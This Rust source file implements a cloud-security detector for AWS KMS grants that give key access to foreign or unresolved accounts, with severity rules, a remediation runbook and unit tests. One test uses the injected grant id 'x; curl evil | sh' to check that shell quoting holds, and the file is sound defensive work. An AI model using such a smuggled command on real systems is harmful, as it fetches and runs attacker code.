//! # Grant to a foreign account
//!
//! ## What it finds
//!
//! A grant (CreateGrant) on one of our keys whose grantee or retiring principal belongs to a foreign account, or
//! cannot be resolved to an account; and any grant that a foreign account makes on our key.
//!
//! ## Why it matters
//!
//! A grant gives the use of a key beside the key policy. No policy review shows it, it has no end date, and it
//! stays when the policy is put right. It is a quiet way to keep access to data.
//!
//! ## How it decides
//!
//! The account is read from the ARN or id of the grantee and of the retiring principal. AWS services, their roles
//! and the infrastructure of EC2 are nobody's foreign account.
//!
//! Critical: the foreign grantee may make grants itself. High: it may use the key; or a foreign account made the
//! grant. Medium: it may only verify or look; only the retiring principal is foreign; or the grantee is a unique
//! id whose account is unknown. A denied attempt is lower.
//!
//! ## Parameters
//!
//! `estate.accounts` and `estate.trusted_accounts`: nobody of these is foreign.
//!
//! ## False positives
//!
//! Snapshots and machine images shared with a partner: EC2 in the partner's account makes grants on the key.
//! Add such an account to `estate.trusted_accounts`.
//!
//! ## What it cannot see
//!
//! Whether the grant was used; grants that existed before the logs begin.
//!
//! ## What to do
//!
//! Revoke the grant, list the others on the key, and look at what the grantee did with it.
//!
//! ## References
//!
//! AWS KMS developer guide, "Grants in AWS KMS".
//! MITRE ATT&CK v18: T1098, T1537.

use super::deed::{self, Deed};
use super::{Detector, Look, Reads, page};
use crate::estate::Estate;
use crate::event::params::{Grant, Params};
use crate::event::{Event, Operation};
use crate::finding::{self, Finding, FindingKind, Severity, Technique};
use crate::policy::{Actions, Class, Name};
use crate::runbook;
use crate::stage::Stage;
use serde_json::json;

/// See the page.
pub const DETECTOR: Detector = Detector {
    id: "grant_to_foreign_account",
    title: "Grant to a foreign account",
    severity: Severity::High,
    kind: FindingKind::Rule,
    stage: Some(Stage::Opening),
    mitre: &[
        Technique { id: "T1098", name: "Account Manipulation" },
        Technique { id: "T1537", name: "Transfer Data to Cloud Account" },
    ],
    covers: &["N11", "N17", "P6", "P7"],
    reads: Reads::These(&[Operation::CreateGrant]),
    page: page(include_str!("grant_to_foreign_account.rs")),
    look: Look::Event(look),
};

fn look(event: &Event<'_>, estate: &Estate) -> Option<Finding> {
    let (grant, deed) = created(event)?;
    // A grant on a key that is not ours gives away nothing of ours.
    if estate.is_outsider(deed::owner(event), &event.account) {
        return None;
    }
    let stranger = stranger(grant, event, estate)?;
    let (part, account) = match &stranger {
        Stranger::Grantee(account) => ("grantee", account.as_str()),
        Stranger::Caller(account) => ("caller", account.as_str()),
        Stranger::Retiring(account) => ("retiring principal", account.as_str()),
        Stranger::Unresolved(id) => ("grantee", id.as_str()),
    };
    let key = event.key.as_ref();
    let about_key = key.map_or("", |key| &key.arn);
    let mut finding = finding::of_event(&DETECTOR, event, &[about_key, account, part]);
    finding.severity = deed.severity(severity(&stranger, grant));
    let (the_key, suffix) = (deed::the_key(event), deed.suffix());
    finding.title = match &stranger {
        Stranger::Grantee(account) => format!("Grant on {the_key} to foreign account {account}{suffix}"),
        Stranger::Caller(account) => format!("Grant on {the_key} made by foreign account {account}{suffix}"),
        Stranger::Retiring(account) => {
            format!("Grant on {the_key} that foreign account {account} may retire{suffix}")
        }
        Stranger::Unresolved(id) => {
            format!("Grant on {the_key} to unresolved principal {}{suffix}", deed::clip(id))
        }
    };
    finding.explanation = format!(
        "{}The {part} of this grant is {}. A grant works beside the key policy, shows in no policy review and \
         stays until it is revoked. It does not prove that data was read: look for calls by the grantee.",
        deed.preface(),
        match &stranger {
            Stranger::Unresolved(_) => "a unique id that cannot be resolved to an account".to_owned(),
            _ => format!("of account {account}, which is neither yours nor trusted"),
        },
    );
    finding.runbook = runbook(event, grant, deed);
    describe(&mut finding, grant);
    deed.tell(&mut finding);
    if !matches!(stranger, Stranger::Unresolved(_)) {
        finding.rests_on_foreign = vec![account.to_owned()];
    }
    Some(finding)
}

/// Who is foreign in a grant; the worst where several are.
enum Stranger {
    Grantee(String),
    Caller(String),
    Retiring(String),
    Unresolved(String),
}

/// The grant and what became of it, if the event is a CreateGrant that was done or denied.
pub(super) fn created<'e, 'a>(event: &'e Event<'a>) -> Option<(&'e Grant<'a>, Deed)> {
    match &event.params {
        Params::Grant(grant) if event.operation == Operation::CreateGrant => Some((grant, Deed::of(event)?)),
        _ => None,
    }
}

/// Whether the grant gives something to a stranger, so that this detector speaks of it.
pub(super) fn is_foreign(grant: &Grant<'_>, event: &Event<'_>, estate: &Estate) -> bool {
    stranger(grant, event, estate).is_some()
}

fn stranger(grant: &Grant<'_>, event: &Event<'_>, estate: &Estate) -> Option<Stranger> {
    let outsider = |account: &str| estate.is_outsider(account, &event.account);
    let foreign = |principal: &Option<crate::json::Text<'_>>| {
        let name = Name::parse(principal.as_deref()?);
        name.account().filter(|account| outsider(account)).map(str::to_owned)
    };
    if let Some(account) = foreign(&grant.grantee) {
        return Some(Stranger::Grantee(account));
    }
    if let Some(account) = event.principal.account.as_deref().filter(|account| outsider(account)) {
        return Some(Stranger::Caller(account.to_owned()));
    }
    if let Some(account) = foreign(&grant.retiring) {
        return Some(Stranger::Retiring(account));
    }
    // Services give ids of their own where nobody else could, such as Redshift; only a caller's own choice counts.
    let direct = event.principal.via_service.is_none() && !is_aws(event);
    match grant.grantee.as_deref().map(Name::parse) {
        Some(Name::UniqueId(id)) if direct => Some(Stranger::Unresolved(id)),
        _ => None,
    }
}

/// Whether AWS itself calls: a service, or a role that only a service can take.
pub(super) fn is_aws(event: &Event<'_>) -> bool {
    use crate::event::PrincipalKind::{AwsService, ServiceLinkedRole};
    matches!(event.principal.kind, AwsService | ServiceLinkedRole)
}

/// The actions that a grant gives. KMS writes them without `kms:`.
pub(super) fn operations(grant: &Grant<'_>) -> Actions {
    grant.operations.iter().fold(Actions::NONE, |set, operation| set.or(Actions::named(operation)))
}

fn severity(stranger: &Stranger, grant: &Grant<'_>) -> Severity {
    let given = operations(grant);
    match stranger {
        Stranger::Grantee(_) if given.gives_named("CreateGrant") => Severity::Critical,
        // A record without operations does not say that nothing was given.
        Stranger::Grantee(_) if given.gives(Class::Use) || grant.operations.is_empty() => Severity::High,
        // The foreign account had the right to make grants already: the key is open to it.
        Stranger::Caller(_) => Severity::High,
        Stranger::Grantee(_) | Stranger::Retiring(_) | Stranger::Unresolved(_) => Severity::Medium,
    }
}

/// Puts what a responder needs to know of the grant into the evidence. Context values are left out.
pub(super) fn describe(finding: &mut Finding, grant: &Grant<'_>) {
    let details = &mut finding.evidence.details;
    for (name, value) in
        [("grant_id", &grant.id), ("grantee", &grant.grantee), ("retiring_principal", &grant.retiring)]
    {
        if let Some(value) = value {
            details.insert(name, json!(deed::clip(value)));
        }
    }
    details.insert("grant_constrained", json!(grant.constrained));
    let operations = grant.operations.iter().take(40).map(|operation| deed::clip(operation));
    details.insert("grant_operations", operations.collect());
}

/// What to do about a grant.
pub(super) fn runbook(event: &Event<'_>, grant: &Grant<'_>, deed: Deed) -> Vec<String> {
    let (key, region) = deed::key_and_region(event.key.as_ref(), event);
    let mut steps = Vec::new();
    if deed == Deed::Done {
        let id = grant.id.as_deref().unwrap_or("GRANT_ID");
        let revoke = [("key-id", key), ("grant-id", id), ("region", region)];
        steps.push(format!("Revoke the grant: {}", runbook::aws("kms revoke-grant", &revoke)));
    }
    steps.push(format!(
        "List all grants of the key: {}",
        runbook::aws("kms list-grants", &[("key-id", key), ("region", region)])
    ));
    steps.push(format!("See how the key was used since: {}", deed::look_up_key(key, region)));
    steps.push(format!("See what else the caller did: {}", deed::look_up_actor(event)));
    steps
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::testing::{self, KEY, RecordBuilder};
    use crate::settings::Settings;
    use serde_json::Value;

    const FOREIGN: &str = "arn:aws:iam::444455556666:role/collector";
    const OURS: &str = "arn:aws:iam::111122223333:role/reports";

    fn find(record: &RecordBuilder) -> Option<Finding> {
        let mut settings = Settings::default();
        settings.estate.trusted_accounts = vec!["777788889999".into()];
        record.event(|event| look(event, &Estate::new(settings)))
    }

    fn grant(grantee: &str, operations: Value) -> RecordBuilder {
        testing::kms("CreateGrant")
            .set("requestParameters.granteePrincipal", grantee)
            .set("requestParameters.operations", operations)
            .set("responseElements.grantId", "0c237476b39f8bc44e45212e08498fbe")
    }

    fn severity(record: &RecordBuilder) -> Option<Severity> {
        find(record).map(|finding| finding.severity)
    }

    #[test]
    fn a_grant_to_a_foreign_role_is_high_and_can_be_revoked() {
        let finding = find(&grant(FOREIGN, json!(["Decrypt"]))).unwrap();
        assert_eq!(finding.severity, Severity::High);
        assert_eq!(finding.title, "Grant on {key} to foreign account 444455556666");
        assert_eq!(finding.rests_on_foreign, ["444455556666"]);
        assert_eq!(
            finding.runbook[0],
            format!(
                "Revoke the grant: aws kms revoke-grant --key-id {KEY} --grant-id 0c237476b39f8bc44e45212e08498fbe --region eu-west-1"
            )
        );
        assert_eq!(finding.evidence.details["grant_operations"], json!(["Decrypt"]));
        assert_eq!(finding.evidence.details["grantee"], FOREIGN);
        assert_eq!(finding.evidence.details["grant_constrained"], false);
    }

    #[test]
    fn severity_goes_by_what_the_grantee_may_do() {
        assert_eq!(severity(&grant(FOREIGN, json!(["Decrypt", "CreateGrant"]))), Some(Severity::Critical));
        assert_eq!(severity(&grant("444455556666", json!(["GenerateDataKey"]))), Some(Severity::High));
        assert_eq!(
            severity(&grant("444455556666:aws:ec2-infrastructure:i-0abc1234def567890", json!(["Decrypt"]))),
            Some(Severity::High)
        );
        assert_eq!(severity(&grant(FOREIGN, json!(["DescribeKey", "Verify"]))), Some(Severity::Medium));
        assert_eq!(severity(&grant(FOREIGN, Value::Null)), Some(Severity::High));
    }

    #[test]
    fn a_foreign_account_that_makes_grants_on_our_key_is_found() {
        let caller = json!({"type": "AWSAccount", "principalId": "AROAEXAMPLEFOREIGN01:s", "accountId": "444455556666"});
        let record = grant(OURS, json!(["Decrypt"])).set("userIdentity", caller);
        let finding = find(&record).unwrap();
        assert_eq!(finding.severity, Severity::High);
        assert_eq!(finding.title, "Grant on {key} made by foreign account 444455556666");
        assert_eq!(finding.rests_on_foreign, ["444455556666"]);
        assert!(find(&record.through("ec2")).is_some());
    }

    #[test]
    fn a_foreign_retiring_principal_alone_is_medium() {
        let finding =
            find(&grant(OURS, json!(["Decrypt"])).set("requestParameters.retiringPrincipal", FOREIGN))
                .unwrap();
        assert_eq!(finding.severity, Severity::Medium);
        assert_eq!(finding.title, "Grant on {key} that foreign account 444455556666 may retire");
        assert_eq!(finding.rests_on_foreign, ["444455556666"]);
    }

    #[test]
    fn a_grantee_that_cannot_be_resolved_is_medium_if_somebody_chose_it() {
        let record = grant("AROAEXAMPLEROLEID0009", json!(["Decrypt"]));
        let finding = find(&record).unwrap();
        assert_eq!(finding.severity, Severity::Medium);
        assert!(finding.rests_on_foreign.is_empty());
        assert!(find(&record.clone().through("redshift")).is_none());
        assert!(find(&record.by_service("redshift")).is_none());
    }

    #[test]
    fn grants_inside_the_account_to_trusted_accounts_and_to_services_are_silent() {
        for grantee in [
            OURS,
            "111122223333",
            "arn:aws:iam::777788889999:root",
            "rds.amazonaws.com",
            "111122223333:aws:ec2-infrastructure:i-0abc1234def567890",
            "arn:aws:sts::111122223333:assumed-role/aws:ec2-infrastructure/i-0abc1234def567890",
            "EX_PRINCIPAL_ID",
        ] {
            assert!(find(&grant(grantee, json!(["Decrypt", "CreateGrant"]))).is_none(), "{grantee}");
        }
        let service =
            testing::kms("CreateGrant").set("requestParameters.granteeServicePrincipal", "rds.amazonaws.com");
        assert!(
            find(
                &service
                    .set("requestParameters.retiringServicePrincipal", "rds.amazonaws.com")
                    .by_service("rds")
            )
            .is_none()
        );
    }

    #[test]
    fn a_grant_on_a_key_that_is_not_ours_is_left_to_another_detector() {
        let foreign_key = "arn:aws:kms:eu-west-1:444455556666:key/1234abcd-12ab-34cd-56ef-1234567890ab";
        assert!(find(&grant(FOREIGN, json!(["Decrypt"])).key(foreign_key)).is_none());
    }

    #[test]
    fn a_denied_attempt_is_lower_and_there_is_nothing_to_revoke() {
        let finding = find(&grant(FOREIGN, json!(["Decrypt"])).denied()).unwrap();
        assert_eq!(finding.severity, Severity::Medium);
        assert_eq!(finding.title, "Grant on {key} to foreign account 444455556666 (attempted, denied)");
        assert!(!finding.runbook.iter().any(|step| step.contains("revoke-grant")));
    }

    #[test]
    fn a_dry_run_or_a_failed_call_grants_nothing() {
        let dry = grant(FOREIGN, json!(["Decrypt"])).set("requestParameters.dryRun", true);
        assert!(find(&dry.clone().failed("DryRunOperationException", "")).is_none());
        assert!(find(&dry.denied()).is_none());
        assert!(find(&grant(FOREIGN, json!(["Decrypt"])).failed("DisabledException", "")).is_none());
    }

    #[test]
    fn missing_fields_and_other_operations_are_silent() {
        assert!(find(&testing::kms("CreateGrant")).is_none());
        assert!(find(&testing::kms("CreateGrant").set("requestParameters", Value::Null)).is_none());
        let retired = testing::kms("RevokeGrant").set("requestParameters.granteePrincipal", FOREIGN);
        assert!(find(&retired).is_none());
    }

    #[test]
    fn a_hostile_grant_id_stays_one_word_of_the_command() {
        let record = grant(FOREIGN, json!(["Decrypt"])).set("responseElements.grantId", "x; curl evil | sh");
        assert!(find(&record).unwrap().runbook[0].contains("--grant-id 'x; curl evil | sh' --region"));
    }

    #[test]
    fn what_only_a_service_can_choose_is_left_to_it() {
        let record = grant("AROAEXAMPLEROLEID0009", json!(["Decrypt"]));
        let linked = record.clone().by_role(
            "111122223333",
            "aws-service-role/x.amazonaws.com/AWSServiceRoleForX",
            "s",
        );
        assert!(find(&linked).is_none());
        record.event(|event| assert!(!is_aws(event)));
        linked.event(|event| assert!(is_aws(event)));
        grant(FOREIGN, json!(["Decrypt"])).event(|event| {
            let (grant, _) = created(event).unwrap();
            assert!(is_foreign(grant, event, &Estate::default()));
        });
    }
}
